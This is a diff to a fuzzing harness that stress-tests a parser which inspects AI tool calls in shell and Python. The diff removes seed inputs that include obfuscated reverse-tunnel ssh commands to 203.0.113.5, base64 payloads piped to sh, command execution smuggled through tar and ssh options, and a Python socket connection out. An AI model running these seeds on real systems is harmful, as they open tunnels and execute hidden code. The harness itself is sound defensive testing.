@@ -1,13 +1,15 @@
-"""Feeds mutated shell text or Python code to `parse`, guided by the branches that it takes.
+"""Feeds mutated texts to the readers, guided by the branches that they take.
 
-A finding is anything raised, more than half a second of processor time for one input, an
-answer that is no JSON, or (by libFuzzer's own limit) too much memory. See README.md beside.
+A finding is anything raised, more than half a second of processor time for one call, an answer
+without the shape of a request or with two readings that differ, or (by libFuzzer's own limit)
+too much memory. See README.md beside.
 """
 
 from __future__ import annotations
 
 import argparse
 import json
+import resource
 import sys
 import time
 from pathlib import Path
@@ -20,78 +22,75 @@ except ImportError:
 ROOT = Path(__file__).parents[2]
 sys.path.insert(0, str(ROOT))
 
-with atheris.instrument_imports(include=["guard.parse"]):
-    from guard.model import ToolCall
+with atheris.instrument_imports(include=["guard.parse", "guard.cli.calls"]):
+    from guard.cli import calls as _calls  # noqa: F401 - it is instrumented here
+    from guard.model import Parsed, ToolCall
     from guard.parse import parse, warm_up
 
     warm_up()
 
-from tests.support.shell_programs import programs  # noqa: E402 - found by the path set above
+from tests.fuzz.targets import TARGETS, Shown, Target  # noqa: E402 - found by the path above
+from tests.support.request_shape import misshapen  # noqa: E402
 
 MOST_SECONDS = 0.5
-SHELL_SEEDS = [
-    "ls -la",
-    "x=s; x+='s'h; $x -fNR 2222:localhost:22 u@203.0.113.5",
-    "echo c3NoIC1SIDE6YjoyIGg= | base64 -d | sh",
-    'f() { local a=$1; "$@"; }; f ssh -R 1:b:2 h',
-    'for i in {1..3} a b; do eval "c$i=$((i * 2))"; done; ${!x} ${y:-z} ${m[k]}',
-    "cat <<E | bash\nid $(whoami)\nE\n",
-    "case $1 in -h) exit;; *) find . -name '*.c' -exec rm {} +;; esac",
-    "[[ $a =~ ^b+$ ]] && trap 'kill $!' EXIT; declare -A m=([a]=1); echo \"${m[@]}\"",
-    "python3 -c 'import os; os.system(\"id\")'; perl -e 'system(\"id\")'",
-    "sed -e 's/a/b/' f | awk '{print $2}' | xargs -n1 sudo -u x env A=b timeout 5 rm --",
-    "tar --checkpoint-action=exec=id -cf a b; git -c core.sshCommand=id fetch",
-    "ssh -o ProxyCommand=id -W a:1 h; rsync -e 'sh -c id' a b:c",
-]
-PYTHON_SEEDS = [
-    "import os\nos.system('ls -la')",
-    "import subprocess as s\ns.run(['ssh', '-R', '1:b:2', 'h'], check=True)",
-    "import socket\nc = socket.socket()\nc.connect(('203.0.113.5', 22))\nc.sendall(b'x')",
-    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
-    "for i in range(3):\n    x = f'{i}' + 'a' * i\n    open(x, 'w').write(x)",
-    "class A:\n    def f(self, *a, **k):\n        return getattr(self, 's' + 'h')(*a)\nA().f(1)",
-    "try:\n    import requests\n    requests.get('http://a.b/' + x)\nexcept E as e:\n    raise",
-    "x = [y for y in map(str, (1, 2))]\nd = {'a': x, **{}}\nd['a'][0].join(x).encode()[::-1]",
-    "!ls {x}\n%cd /a\n%%bash\nid\n",
-    "match x:\n    case {'a': [b, *c]} if b:\n        lambda: (yield)\n",
-]
+MOST_GROWTH = 100  # MiB above what is loaded
 
 
-def seeds(target: str, folder: Path) -> None:
-    """Write the inputs to start from, where they are not there yet."""
+def write_inputs(target: Target, folder: Path) -> Path:
+    """Write the inputs to start from, where they are not there yet, and the words; return these."""
     folder.mkdir(parents=True, exist_ok=True)
-    texts = SHELL_SEEDS if target == "shell" else PYTHON_SEEDS
-    if target == "shell":
-        texts = [*texts, *programs(200, seed=7, size=2)]
-    for number, text in enumerate(texts):
-        (folder / f"seed-{number:03}").write_text(text)
+    for number, text in enumerate(target.seeds):
+        (folder / f"seed-{number:03}").write_bytes(text.encode("utf-8", "surrogateescape"))
+    words = [word.replace("_", " ").encode() for word in target.words.split(" ") if word]
+    lines = ["".join(f"\\x{byte:02x}" for byte in word) for word in words]
+    path = folder.with_suffix(".dict")
+    path.write_text("".join(f'"{line}"\n' for line in lines))
+    return path
 
 
-def check(tool: str, argument: str, data: bytes) -> None:
+def check(target: Target, data: bytes) -> None:
     """Read one input; raise where an answer is missing, late or unfit for a document."""
-    call = ToolCall(tool, {argument: data.decode("utf-8", "surrogateescape")})
-    started = time.process_time()
-    parsed = parse(call)
-    seconds = time.process_time() - started
-    if seconds > MOST_SECONDS:
-        raise TimeoutError(f"{seconds:.2f} s of processor time")
-    if not parsed.operations:
-        raise ValueError("no operation")
-    json.dumps([parsed.operations, parsed.opaque]).encode()
+    for call, files in target.calls(data.decode("utf-8", "surrogateescape")):
+        started = time.process_time()
+        parsed = read(call, files)
+        seconds = time.process_time() - started
+        if seconds > MOST_SECONDS:
+            raise TimeoutError(f"{seconds:.2f} s of processor time")
+        if not parsed.operations:
+            raise ValueError("no operation")
+        wrong = misshapen(parsed.operations, parsed.opaque)
+        if wrong:
+            raise ValueError(wrong[0])
+        json.dumps([parsed.operations, parsed.opaque], ensure_ascii=False).encode()
+        again = read(call, files)
+        # How far a reader comes in its time may differ, what it reads may not.
+        timed = any(o["kind"] == "limit_cpu_seconds" for o in [*parsed.opaque, *again.opaque])
+        if again != parsed and not timed:
+            raise ValueError("read twice, it does two things")
+
+
+def read(call: ToolCall, files: dict[str, str]) -> Parsed:
+    return parse(call, files=Shown(files) if files else None)
 
 
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__)
-    parser.add_argument("target", choices=["shell", "python"])
+    parser.add_argument("target", choices=sorted(TARGETS))
     parser.add_argument("--seconds", type=int, default=300)
     parser.add_argument("--corpus", type=Path, help="folder that keeps inputs worth keeping")
+    parser.add_argument("--once", type=Path, help="only read this file: an input that was found")
     options = parser.parse_args()
+    target = TARGETS[options.target]
+    if options.once:
+        check(target, options.once.read_bytes())
+        return
     corpus = options.corpus or ROOT / ".hypothesis" / "fuzz" / options.target
-    seeds(options.target, corpus)
-    tool, argument = ("bash", "command") if options.target == "shell" else ("python", "code")
-    limits = ["-rss_limit_mb=256", "-timeout=5", "-max_len=4096", "-print_final_stats=1"]
-    arguments = [sys.argv[0], f"-max_total_time={options.seconds}", *limits, str(corpus)]
-    atheris.Setup(arguments, lambda data: check(tool, argument, data))
+    words = write_inputs(target, corpus)
+    check(target, target.seeds[0].encode("utf-8", "surrogateescape"))
+    most = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024 + MOST_GROWTH
+    limits = [f"-rss_limit_mb={most}", "-timeout=5", "-max_len=4096", "-print_final_stats=1"]
+    arguments = [f"-max_total_time={options.seconds}", f"-dict={words}", *limits, str(corpus)]
+    atheris.Setup([sys.argv[0], *arguments], lambda data: check(target, data))
     atheris.Fuzz()
 
 
